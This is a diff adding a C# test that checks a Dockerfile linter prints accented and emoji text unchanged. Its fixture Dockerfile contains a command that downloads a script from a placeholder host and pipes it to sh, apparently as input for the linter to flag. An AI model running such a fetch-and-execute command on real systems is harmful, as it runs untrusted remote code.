@@ -33,6 +33,15 @@ public class TerminalSafetyTests
     }
 
     [Fact]
+    public void Emoji_and_accents_are_printed_as_they_are()
+    {
+        string dir = TempDirectory.Create();
+        File.WriteAllText(Path.Combine(dir, "Dockerfile"), "FROM alpine:3.20\nUSER 1000\nRUN echo \"caf\u00e9 \ud83d\ude00\" && curl http://x.example/i.sh | sh\n");
+        var result = CliProcess.Run(dir, null, "lint", "--no-color", "Dockerfile");
+        Assert.Contains("RUN echo \"caf\u00e9 \ud83d\ude00\" && curl", result.StdOut);
+    }
+
+    [Fact]
     public void A_huge_single_line_is_echoed_in_a_window_around_the_finding()
     {
         string dir = TempDirectory.Create();
